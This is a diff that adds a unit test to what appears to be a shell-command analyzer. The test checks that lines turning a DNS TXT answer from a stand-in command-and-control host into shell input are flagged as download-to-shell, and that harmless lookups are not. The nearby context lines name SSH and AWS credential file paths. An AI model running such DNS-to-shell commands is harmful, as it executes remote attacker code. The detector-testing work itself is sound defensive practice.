@@ -403,3 +403,16 @@ def test_home_relative_paths_in_code_are_folded() -> None:
     assert "open('~/.ssh/id_rsa')" in fold("open(os.path.expanduser('~/.ssh/id_rsa'))")
     assert "'~/.aws/credentials'" in fold("open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))")
     assert fold("y = 4 / 2") == "y = 4 / 2"
+
+
+def test_a_name_servers_answer_run_as_code_is_a_download_to_shell() -> None:
+    """DNS as the download channel: a TXT answer handed to a shell, through a
+    substitution, a variable or a pipe; looking a name up for any other use is not."""
+    for attack in ('c=$(dig +short TXT cmd1.c2.example); sh -c "$c"',
+                   'sh -c "$(nslookup -q=txt cmd.c2.example)"', "dig +short TXT x.example | sh"):
+        assert "download_to_shell" in analyze_command(attack)["cmd.features"], attack
+    for honest in ('ip=$(dig +short example.org); curl "http://$ip/"',
+                   'echo "$(host example.org)"', 'sh -c "$(grep host config)"',
+                   "dig +short TXT example.org > txt.out"):
+        assert "download_to_shell" not in analyze_command(honest)["cmd.features"], honest
+
